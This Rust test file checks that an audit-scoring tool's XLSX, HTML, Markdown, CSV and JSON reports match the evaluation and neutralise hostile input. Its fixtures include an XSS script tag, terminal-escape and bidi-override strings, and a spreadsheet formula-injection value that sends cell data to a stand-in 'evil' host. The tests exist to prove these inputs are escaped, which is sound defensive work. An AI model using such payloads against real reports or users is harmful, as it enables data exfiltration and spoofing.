//! Every report format renders the same result: the XLSX read back matches
//! the evaluation, the HTML is self-contained and prints to PDF in a real
//! browser, hostile user text comes out inert everywhere, and English
//! reports carry no Chinese label.

use bscore::Audit;
use bscore::Checklist;
use bscore::analyze;
use bscore::{Evaluation, evaluate};
use bscore::{Format, Lang, RenderOptions, Report, render};
use bscore::{fixed, trimmed};
use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use std::io::Cursor;
use std::process::Command;

fn example_text(name: &str) -> String {
    std::fs::read_to_string(format!("{}/examples/{name}", env!("CARGO_MANIFEST_DIR"))).unwrap()
}

fn options(lang: Lang) -> RenderOptions {
    RenderOptions {
        lang,
        ascii: false,
        detail: false,
        bom: true,
        width: 100,
    }
}

/// Renders `source` (an audit) in `format`.
fn rendered(source: &str, format: Format, options: RenderOptions) -> (Vec<u8>, Audit, Evaluation) {
    let checklist = Checklist::builtin();
    let audit = Audit::parse("audit.toml", source, &checklist).unwrap_or_else(|e| panic!("{e}"));
    let evaluation = evaluate(&checklist, &audit).unwrap();
    let analysis = analyze(&checklist, &audit, &evaluation);
    let report = Report {
        file: "audit.toml",
        checklist: &checklist,
        rules: None,
        audit: &audit,
        evaluation: &evaluation,
        analysis: &analysis,
        audit_sha256: "0000",
    };
    let mut out = Vec::new();
    render(format, options, &[report], &mut out).unwrap();
    (out, audit, evaluation)
}

fn text(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes).unwrap()
}

#[test]
fn xlsx_cells_formulas_and_totals_match_the_evaluation() {
    let (bytes, _, evaluation) = rendered(
        &example_text("gold-supply-chain-finance.toml"),
        Format::Xlsx,
        options(Lang::Zh),
    );
    let checklist = Checklist::builtin();
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    // The result sheet, very hidden, carries the JSON for `bscore verify`.
    assert_eq!(
        workbook.sheet_names(),
        vec![
            "评分表".to_string(),
            "精确值".to_string(),
            "bscore-result".to_string()
        ]
    );
    let result_sheet = &workbook.sheets_metadata()[2];
    assert_eq!(result_sheet.visible, calamine::SheetVisible::VeryHidden);
    let values = workbook.worksheet_range("评分表").unwrap();
    let formulas = workbook.worksheet_formula("评分表").unwrap();
    let formula_at = |row: u32, column: u32| -> String {
        formulas
            .get_value((row, column))
            .cloned()
            .unwrap_or_default()
    };
    let row_of = |label: &str| -> u32 {
        (0..values.height() as u32)
            .find(|row| matches!(values.get_value((*row, 1)), Some(Data::String(s)) if s == label || s.starts_with(&format!("{label} "))))
            .unwrap_or_else(|| panic!("no row {label}"))
    };
    let float = |row: u32, column: u32| -> f64 {
        match values.get_value((row, column)) {
            Some(Data::Float(value)) => *value,
            Some(Data::Int(value)) => *value as f64,
            other => panic!("({row}, {column}) is {other:?}"),
        }
    };
    for (indicator, score) in checklist.indicators.iter().zip(&evaluation.indicators) {
        let row = row_of(&indicator.id);
        if score.applicable {
            // Computed at full precision in hidden column J, shown cut in E.
            assert_eq!(
                formula_at(row, 9),
                format!("(1-I{})*C{}", row + 1, row + 1),
                "{}",
                indicator.id
            );
            assert_eq!(
                formula_at(row, 4),
                format!("TRUNC(ROUND(J{},9),2)", row + 1),
                "{}",
                indicator.id
            );
            let expected = score.earned.to_f64().unwrap();
            assert!((float(row, 9) - expected).abs() < 1e-9, "{}", indicator.id);
            let shown: f64 = fixed(&score.earned, 2).parse().unwrap();
            assert_eq!(float(row, 4), shown, "{}", indicator.id);
        } else {
            assert_eq!(
                values.get_value((row, 3)),
                Some(&Data::String("删减".into())),
                "{}",
                indicator.id
            );
        }
    }
    assert_eq!(formula_at(row_of("4.4.e"), 8), "5/12");
    assert_eq!(float(row_of("4.4.e"), 3), 0.4166, "shown cut, not rounded");
    // The totals follow the last category's subtotal after one blank row.
    let last_subtotal = (0..values.height() as u32)
        .rev()
        .find(|row| matches!(values.get_value((*row, 1)), Some(Data::String(s)) if s == "合计"))
        .unwrap();
    let blank = |row: u32| {
        (0..10).all(|column| matches!(values.get_value((row, column)), None | Some(Data::Empty)))
    };
    assert!(blank(last_subtotal + 1), "no blank row after the table");
    // Then the totals, in the order of the computation, without a gap,
    // and bscore's exact evaluation under them.
    let totals = [
        "实际得分",
        "涉及项分值",
        "评分 = 实际得分 ÷ 涉及项总分值 × 100",
        "特别扣分项",
        "特别加分项",
        "总评分",
        "评级",
        "bscore 精确评价（以此为准；表中数字按两位小数截断显示，不四舍五入）",
    ];
    for (row, label) in (last_subtotal + 2..).zip(totals) {
        assert_eq!(
            values.get_value((row, 1)),
            Some(&Data::String(label.into())),
            "row {}",
            row + 1
        );
    }
    let score_row = row_of("总评分");
    assert!(
        formula_at(score_row, 9).starts_with("MIN(100,MAX(0,"),
        "{}",
        formula_at(score_row, 9)
    );
    assert!((float(score_row, 9) - evaluation.score.to_f64().unwrap()).abs() < 1e-9);
    assert_eq!(float(score_row, 4), 94.64);
    assert!((float(row_of("实际得分"), 4) - 92.75).abs() < 1e-12);
    assert!((float(row_of("涉及项分值"), 4) - 98.0).abs() < 1e-12);
    assert_eq!(
        values.get_value((row_of("评级"), 4)),
        Some(&Data::String("四星级（金牌）".into()))
    );

    // The exact sheet: a row an indicator, then after a blank row the
    // totals as fractions (worked by hand: 92.75 of 98 applicable points,
    // normalized to 9275/98 = 1325/14, no deduction or bonus), then after
    // another blank row where the result came from.
    let exact = workbook.worksheet_range("精确值").unwrap();
    let at = |row: usize, column: u32| match exact.get_value((row as u32, column)) {
        Some(Data::String(text)) => text.clone(),
        None | Some(Data::Empty) => String::new(),
        other => panic!("({row}, {column}) is {other:?}"),
    };
    let count = checklist.indicators.len();
    for (index, (indicator, score)) in checklist
        .indicators
        .iter()
        .zip(&evaluation.indicators)
        .enumerate()
    {
        assert_eq!(at(index + 1, 0), indicator.id);
        assert_eq!(
            at(index + 1, 3),
            score.earned.to_string(),
            "{}",
            indicator.id
        );
    }
    let row_4_4_e = 1
        + (checklist.indicators.iter())
            .position(|i| i.id == "4.4.e")
            .unwrap();
    assert_eq!(at(row_4_4_e, 2), "5/12");
    let totals = [
        ("实际得分", "371/4"),
        ("涉及项分值", "98"),
        ("评分 = 实际得分 ÷ 涉及项总分值 × 100", "1325/14"),
        ("总评分", "1325/14"),
    ];
    assert!((0..4).all(|column| at(count + 1, column).is_empty()));
    for (row, (label, value)) in (count + 2..).zip(totals) {
        assert_eq!(
            (at(row, 0).as_str(), at(row, 3).as_str()),
            (label, value),
            "row {row}"
        );
    }
    assert!((0..4).all(|column| at(count + 6, column).is_empty()));
    assert_eq!(at(count + 7, 0), "结果溯源（bscore verify 可复核）");
    assert_eq!(at(count + 8, 0), "bscore");
    assert!(!at(count + 8, 1).is_empty(), "no version");
    assert_eq!(
        (at(count + 9, 0), at(count + 9, 1)),
        ("标准".into(), checklist.code.clone())
    );
    assert_eq!(at(count + 11, 0), "评价文件 SHA-256");
    assert_eq!(
        at(count + 11, 1),
        "0000",
        "the digest the test renders with"
    );
}

/// The special deduction is shown as the points it takes away and the
/// bonus as the points it adds, in the values a spreadsheet shows before
/// it recalculates as in the formulas (one deduction and one bonus of a
/// point each, in the built-in checklist).
#[test]
fn xlsx_shows_the_special_deduction_as_negative_and_the_bonus_as_positive() {
    let (bytes, audit, _) = rendered(
        &example_text("fail-special-deduction.toml"),
        Format::Xlsx,
        options(Lang::Zh),
    );
    assert_eq!(audit.special_deductions.len(), 1);
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    let values = workbook.worksheet_range("评分表").unwrap();
    let row_of = |label: &str| {
        (0..values.height() as u32)
            .find(|row| matches!(values.get_value((*row, 1)), Some(Data::String(s)) if s == label))
            .unwrap_or_else(|| panic!("no row {label}"))
    };
    for (label, points) in [("特别扣分项", -1.0), ("特别加分项", 1.0)] {
        let row = row_of(label);
        for column in [4, 9] {
            assert_eq!(
                values.get_value((row, column)),
                Some(&Data::Float(points)),
                "{label} ({column})"
            );
        }
    }
}

/// The form's 实际得分 heading says its formula with "×" in Chinese, and
/// keeps "x" in English.
#[test]
fn xlsx_earned_heading_uses_the_multiplication_sign_in_chinese() {
    for (lang, heading) in [
        (Lang::Zh, "实际得分 = （1 − 扣分系数）× 小类分值"),
        (Lang::En, "Earned = (1-Deduction coefficient) x Points"),
    ] {
        let (bytes, _, _) = rendered(
            &example_text("fail-low-score.toml"),
            Format::Xlsx,
            options(lang),
        );
        let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
        let sheet = workbook.sheet_names()[0].clone();
        let values = workbook.worksheet_range(&sheet).unwrap();
        let found = values
            .used_cells()
            .any(|(_, _, cell)| matches!(cell, Data::String(s) if s == heading));
        assert!(found, "{lang:?}: no heading {heading:?}");
    }
}

#[test]
fn html_is_self_contained() {
    let (bytes, _, _) = rendered(
        &example_text("platinum-notary.toml"),
        Format::Html,
        options(Lang::Zh),
    );
    let html = text(bytes);
    assert!(html.starts_with("<!DOCTYPE html>"));
    // The one script element is the JSON result: data, which no browser runs.
    let data = r#"<script type="application/json" id="bscore-result">"#;
    assert_eq!(html.matches("<script").count(), 1);
    let html = html.replacen(data, "", 1);
    for external in [
        "http://", "https://", "src=", "<link", "<script", "@import", "url(",
    ] {
        assert!(!html.contains(external), "references {external}");
    }
    assert!(html.contains("<svg"), "inline chart");
    assert!(html.contains("@page"), "print CSS");
    assert!(html.contains("grade-platinum"));
}

/// Prints the HTML report to PDF with headless Chromium. Skipped, with a
/// message, only outside CI when no browser is installed.
#[test]
#[cfg_attr(
    not(has_browser),
    ignore = "no chromium on this machine: install it (apt-get install chromium fonts-noto-cjk) to run this test"
)]
fn html_prints_to_pdf_in_a_real_browser() {
    let browser = ["chromium", "chromium-browser", "google-chrome"]
        .into_iter()
        .find(|name| {
            Command::new(name)
                .arg("--version")
                .output()
                .is_ok_and(|o| o.status.success())
        });
    // Without a browser the test is ignored (see build.rs), except in CI,
    // which must have one.
    let browser = browser.expect("CI must install chromium (.ci/run does)");
    let dir = tempfile::tempdir().unwrap();
    for lang in [Lang::Zh, Lang::En] {
        let html = dir.path().join("report.html");
        let pdf = dir.path().join("report.pdf");
        let (bytes, audit, evaluation) = rendered(
            &example_text("gold-supply-chain-finance.toml"),
            Format::Html,
            options(lang),
        );
        std::fs::write(&html, bytes).unwrap();
        let status = Command::new(browser)
            .args([
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-background-networking",
                "--disable-component-update",
                "--no-first-run",
                "--disable-sync",
                "--no-pdf-header-footer",
            ])
            .arg(format!(
                "--user-data-dir={}",
                dir.path().join("profile").display()
            ))
            .arg(format!("--print-to-pdf={}", pdf.display()))
            .arg(format!("file://{}", html.display()))
            .output()
            .unwrap();
        assert!(
            pdf.exists(),
            "no PDF: {}",
            String::from_utf8_lossy(&status.stderr)
        );
        // What the customer reads: the organisation, the grade and the
        // score are on the printed pages.
        let text = Command::new("pdftotext")
            .arg(&pdf)
            .arg("-")
            .output()
            .expect("pdftotext (poppler-utils) reads the printed report");
        let text = String::from_utf8(text.stdout).unwrap();
        let checklist = Checklist::builtin();
        let words = bscore::Words::new(lang, &checklist);
        for wanted in [
            audit.meta.organization.as_str(),
            words.grade(evaluation.grade),
            &fixed(&evaluation.score, 2),
        ] {
            assert!(text.contains(wanted), "{lang:?}: {wanted} is not printed");
        }
        // No section heading is left alone at the bottom of a page.
        let labels = words.labels;
        let headings = [
            labels.exclusion_reason,
            labels.adjustments_title,
            labels.score,
            labels.provenance,
            labels.appendix_title,
        ];
        for (number, page) in text.split('\u{c}').enumerate() {
            let last = page.lines().rev().find(|line| !line.trim().is_empty());
            if let Some(last) = last {
                assert!(
                    !headings.contains(&last.trim()),
                    "{lang:?}: page {} ends with the heading {last}",
                    number + 1
                );
            }
        }
        std::fs::remove_file(&pdf).unwrap();
    }
}

const HOSTILE: &str = "<script>alert(1)</script> | \"quoted\", comma\nsecond line";

fn hostile_audit() -> String {
    let escaped = HOSTILE
        .replace('\\', "\\\\")
        .replace('"', "\\\"")
        .replace('\n', "\\n");
    format!(
        r#"[audit]
organization = "{escaped}"
service = "服务"
assessors = ["张三"]
date = 2026-03-15
kind = "initial"
unassessed = "conform"

[indicators]
"4.1.a" = {{ coefficient = 1, record = "{escaped}", note = "{escaped}" }}
"5.4" = {{ excluded = "{escaped}" }}

[[special_deductions]]
kind = "law"
finding = "{escaped}"

[bonus]
practice = "{escaped}"
"#
    )
}

#[test]
fn hostile_text_is_inert_in_every_format() {
    let source = hostile_audit();

    let html = text(rendered(&source, Format::Html, options(Lang::Zh)).0);
    assert!(!html.contains("<script>"), "raw script tag in HTML");
    assert!(html.contains(
        "&lt;script&gt;alert(1)&lt;/script&gt; | &quot;quoted&quot;, comma\nsecond line"
    ));

    let markdown = text(rendered(&source, Format::Markdown, options(Lang::Zh)).0);
    assert!(!markdown.contains("<script>"));
    assert!(
        markdown
            .contains("&lt;script&gt;alert(1)&lt;/script&gt; \\| \"quoted\", comma<br>second line")
    );
    // Every row of a Markdown table has as many cell separators as the
    // table's header: an unescaped `|` in user text would add one.
    let separators = |line: &str| line.matches('|').count() - line.matches("\\|").count();
    let mut header_separators = None;
    for line in markdown.lines() {
        if !line.starts_with('|') {
            header_separators = None;
            continue;
        }
        let expected = *header_separators.get_or_insert(separators(line));
        assert_eq!(separators(line), expected, "{line}");
    }
    assert!(
        markdown.contains("\\|"),
        "the hostile `|` is in a table, escaped"
    );

    let csv_text = text(rendered(&source, Format::Csv, options(Lang::Zh)).0);
    let mut reader = csv::Reader::from_reader(csv_text.trim_start_matches('\u{feff}').as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 86);
    let first = &records[0];
    assert_eq!(&first[1], "4.1.a");
    assert_eq!(&first[13], HOSTILE, "record round-trips");
    assert_eq!(&first[14], HOSTILE, "note round-trips");

    let json: serde_json::Value =
        serde_json::from_slice(&rendered(&source, Format::Json, options(Lang::Zh)).0).unwrap();
    assert_eq!(json["organization"], HOSTILE);
    assert_eq!(json["special_deductions"][0]["finding"], HOSTILE);

    let (xlsx, _, _) = rendered(&source, Format::Xlsx, options(Lang::Zh));
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(xlsx)).unwrap();
    let range = workbook.worksheet_range("评分表").unwrap();
    assert_eq!(range.get_value((1, 1)), Some(&Data::String(HOSTILE.into())));
}

/// Every string cell of every sheet, one per line.
fn xlsx_text(bytes: Vec<u8>) -> String {
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    let mut cells = Vec::new();
    for name in workbook.sheet_names() {
        let range = workbook.worksheet_range(&name).unwrap();
        cells.push(name);
        cells.extend(range.used_cells().filter_map(|(_, _, data)| match data {
            Data::String(text) => Some(text.clone()),
            _ => None,
        }));
    }
    cells.join("\n")
}

fn is_cjk(c: char) -> bool {
    matches!(c as u32, 0x3000..=0x303F | 0x3400..=0x4DBF | 0x4E00..=0x9FFF | 0xFF00..=0xFFEF)
}

/// English reports, with the users' own (Chinese) text taken out, have no
/// Chinese character left.
#[test]
fn english_reports_have_no_untranslated_label() {
    for name in [
        "gold-supply-chain-finance.toml",
        "fail-special-deduction.toml",
    ] {
        let source = example_text(name);
        for format in [
            Format::Table,
            Format::Markdown,
            Format::Csv,
            Format::Html,
            Format::Json,
            Format::Xlsx,
        ] {
            // Wide enough that no user text is wrapped, so it can be
            // found and taken out whole.
            let wide = RenderOptions {
                width: 1000,
                ..options(Lang::En)
            };
            let (bytes, audit, _) = rendered(&source, format, wide);
            let mut output = if format == Format::Xlsx {
                xlsx_text(bytes)
            } else {
                text(bytes)
            };
            let meta = &audit.meta;
            let mut user_texts: Vec<String> = vec![meta.organization.clone(), meta.service.clone()];
            user_texts.extend(meta.assessors.iter().cloned());
            user_texts.extend(audit.special_deductions.iter().map(|d| d.finding.clone()));
            user_texts.extend(audit.bonus.iter().map(|b| b.practice.clone()));
            for entry in &audit.entries {
                user_texts.extend(entry.record.iter().cloned());
                user_texts.extend(entry.note.iter().cloned());
                if let bscore::Status::Excluded { reason }
                | bscore::Status::ExclusionRejected { reason, .. } = &entry.status
                {
                    user_texts.push(reason.clone());
                }
                if let bscore::Status::ExclusionRejected { rejection, .. } = &entry.status {
                    user_texts.push(rejection.clone());
                }
            }
            // Longest first, so that a text containing another is removed whole.
            user_texts.sort_by_key(|t| std::cmp::Reverse(t.len()));
            for user_text in &user_texts {
                output = output.replace(user_text.as_str(), "");
            }
            let left: String = output.chars().filter(|c| is_cjk(*c)).collect();
            assert!(
                left.is_empty(),
                "{name} {format:?} --lang en still has: {left}"
            );
        }
    }
}

#[test]
fn scores_agree_across_formats() {
    let source = example_text("silver-traceability.toml");
    let (_, _, evaluation) = rendered(&source, Format::Json, options(Lang::Zh));
    let shown = trimmed(&evaluation.score, 2);
    let cut = bscore::fixed(&evaluation.score, 2);
    let json: serde_json::Value =
        serde_json::from_slice(&rendered(&source, Format::Json, options(Lang::Zh)).0).unwrap();
    assert_eq!(json["score"].to_string(), shown);
    for format in [Format::Table, Format::Markdown, Format::Html] {
        let output = text(rendered(&source, format, options(Lang::Zh)).0);
        assert!(output.contains(&cut), "{format:?} shows {cut}");
    }
}

/// An audit whose author writes terminal escapes, bidi overrides, NUL, CR
/// and spreadsheet formulas (TOML `\u` escapes).
fn control_audit() -> String {
    r#"[audit]
organization = "\u202Eevil\u001B]0;title\u0007"
service = "服务"
assessors = ["张三"]
date = 2026-03-15
kind = "initial"
unassessed = "conform"

[indicators]
"4.1.a" = { coefficient = 1, record = "\u001B[31m99.99 五星级\u001B[0m\r", note = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")" }
"4.1.b" = { coefficient = 1, record = "+1+1", note = "\u0000@SUM(1)" }

[[special_deductions]]
kind = "law"
finding = "=1+1"
"#
    .to_string()
}

/// Whether text holds a character no output may carry raw.
fn has_raw_control(text: &str) -> bool {
    text.chars().any(|c| {
        (c.is_control() && c != '\n')
            || ('\u{202A}'..='\u{202E}').contains(&c)
            || ('\u{2066}'..='\u{2069}').contains(&c)
    })
}

#[test]
fn control_characters_are_shown_not_obeyed_in_every_text_format() {
    let source = control_audit();
    for format in [Format::Table, Format::Markdown, Format::Csv, Format::Html] {
        for lang in [Lang::Zh, Lang::En] {
            let output = text(rendered(&source, format, options(lang)).0);
            // CSV ends its records with CRLF, as RFC 4180 says.
            let output = output.trim_start_matches('\u{feff}').replace("\r\n", "\n");
            assert!(!has_raw_control(&output), "{format:?} {lang:?}:\n{output}");
            // Shown as `\u{1b}` (Markdown escapes the backslash and `[`).
            assert!(output.contains("u{1b}"), "{format:?}");
            if format != Format::Csv {
                // CSV has no header of the audit: no organization.
                assert!(output.contains("u{202e}evil"), "{format:?}");
            }
        }
    }
}

#[test]
fn spreadsheet_cells_never_start_a_formula() {
    let source = control_audit();
    let csv_text = text(rendered(&source, Format::Csv, options(Lang::Zh)).0);
    let mut reader = csv::Reader::from_reader(csv_text.trim_start_matches('\u{feff}').as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(&records[0][14], "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")");
    assert_eq!(&records[1][13], "'+1+1");
    for record in &records {
        for field in record {
            assert!(!field.starts_with(['=', '+', '@', '\t', '\r']), "{field}");
        }
    }
    let (xlsx, _, _) = rendered(&source, Format::Xlsx, options(Lang::Zh));
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(xlsx)).unwrap();
    let range = workbook.worksheet_range("评分表").unwrap();
    let texts: Vec<String> = range
        .used_cells()
        .filter_map(|(_, _, cell)| match cell {
            Data::String(text) => Some(text.clone()),
            _ => None,
        })
        .collect();
    assert!(
        texts.iter().any(|t| t.starts_with("'=HYPERLINK")),
        "{texts:?}"
    );
    for text in &texts {
        assert!(!text.starts_with(['=', '+', '@', '\t', '\r']), "{text}");
    }
}

/// Error messages quote the file name and the offending line: both are
/// shown with their control characters visible, and the caret still
/// points at the problem.
#[test]
fn error_messages_show_control_characters_in_names_and_lines() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("evil\u{1b}[2J.toml");
    std::fs::write(&path, "[audit]\n\"\u{1b}[31mkey\" = 1\n").unwrap();
    let output = crate::common::bscore(&["validate", path.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(2));
    let message = String::from_utf8(output.stderr).unwrap();
    assert!(!has_raw_control(&message), "{message}");
    assert!(message.contains("evil\\u{1b}[2J.toml"), "{message}");
    let line = message
        .lines()
        .find(|line| line.contains("\\u{1b}[31mkey\" = 1"))
        .expect("the offending line is quoted");
    let caret = message
        .lines()
        .skip_while(|l| *l != line)
        .nth(1)
        .expect("a caret line follows");
    // A raw ESC is not allowed in a TOML string: the caret is under it,
    // now shown as the six characters `\u{1b}`.
    let escape_column = line.find('\\').unwrap();
    assert_eq!(caret.find('^'), Some(escape_column), "{line}\n{caret}");
    assert_eq!(caret.matches('^').count(), "\\u{1b}".len(), "{caret}");
}

/// Several audits in one workbook: each gets its own pair of sheets,
/// numbered; one audit's sheets carry no number.
#[test]
fn a_batch_workbook_numbers_each_audits_sheets() {
    let dir = tempfile::tempdir().unwrap();
    let sheets = |audits: &[&str]| {
        let out = dir.path().join("out.xlsx");
        let mut args = vec!["evaluate"];
        args.extend_from_slice(audits);
        args.extend(["--format", "xlsx", "--lang", "en", "--force", "-o"]);
        args.push(out.to_str().unwrap());
        let output = crate::common::bscore(&args);
        assert_eq!(output.status.code(), Some(0), "{output:?}");
        let bytes = std::fs::read(&out).unwrap();
        let workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
        workbook.sheet_names()
    };
    let (silver, gold) = (
        crate::common::example("silver-traceability.toml"),
        crate::common::example("gold-supply-chain-finance.toml"),
    );
    assert_eq!(sheets(&[&silver]), ["Scoring", "Exact", "bscore-result"]);
    assert_eq!(
        sheets(&[&silver, &gold]),
        [
            "Scoring 1",
            "Exact 1",
            "Scoring 2",
            "Exact 2",
            "bscore-result"
        ]
    );
}

/// Where a category's rows, each cut to two places, add up to less than
/// its subtotal (the gold example's 服务要求: 30.74 against 30.75), every
/// report that lists the rows says why, with both figures; where they add
/// up (the platinum example), none does.
#[test]
fn rows_that_do_not_add_up_to_their_subtotal_are_explained() {
    let with_detail = RenderOptions {
        detail: true,
        ..options(Lang::Zh)
    };
    for (name, explained) in [
        ("gold-supply-chain-finance.toml", true),
        ("platinum-notary.toml", false),
    ] {
        let source = example_text(name);
        for format in [Format::Table, Format::Markdown, Format::Html] {
            let (bytes, _, _) = rendered(&source, format, with_detail);
            let shown = text(bytes);
            let said = shown.contains("相加为 30.74") && shown.contains("小计 30.75");
            assert_eq!(said, explained, "{name} {format:?}");
            assert_eq!(shown.contains("逐行截断"), explained, "{name} {format:?}");
        }
        let (bytes, _, _) = rendered(&source, Format::Xlsx, options(Lang::Zh));
        let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
        let sheet = workbook.worksheet_range_at(0).unwrap().unwrap();
        let said = sheet.rows().flatten().any(|cell| {
            matches!(cell, Data::String(text) if text.contains("相加为 30.74") && text.contains("逐行截断"))
        });
        assert_eq!(said, explained, "{name} xlsx");
    }
}

/// An audit with sites checked against a 细则 has a header of eight
/// lines (organization, service, assessors, date, kind, sites, rules,
/// file): the column headings go one row lower rather than over the
/// file's line, which they hid.
#[test]
fn an_xlsx_header_of_eight_lines_keeps_every_line_above_the_column_headings() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("report.xlsx");
    let rules = format!(
        "{}/examples/rules/example-rules.toml",
        env!("CARGO_MANIFEST_DIR")
    );
    let output = crate::common::bscore(&[
        "evaluate",
        &crate::common::example("gold-multi-site.toml"),
        "--rules",
        &rules,
        "--lang",
        "zh",
        "-o",
        path.to_str().unwrap(),
    ]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let bytes = std::fs::read(&path).unwrap();
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    let sheet = workbook.worksheet_range("评分表").unwrap();
    let first_column: Vec<String> = (0..12)
        .map(|row| match sheet.get_value((row, 0)) {
            Some(Data::String(text)) => text.clone(),
            _ => String::new(),
        })
        .collect();
    let file = first_column.iter().position(|text| text == "文件");
    let headings = first_column.iter().position(|text| text == "指标大类");
    assert_eq!((file, headings), (Some(8), Some(9)), "{first_column:?}");
    assert!(first_column[6] == "现场" && first_column[7] == "评分细则");
    // The first indicator right below the headings.
    assert_eq!(
        sheet
            .get_value((10, 1))
            .map(|v| v.to_string().starts_with("4.1.a")),
        Some(true)
    );
}
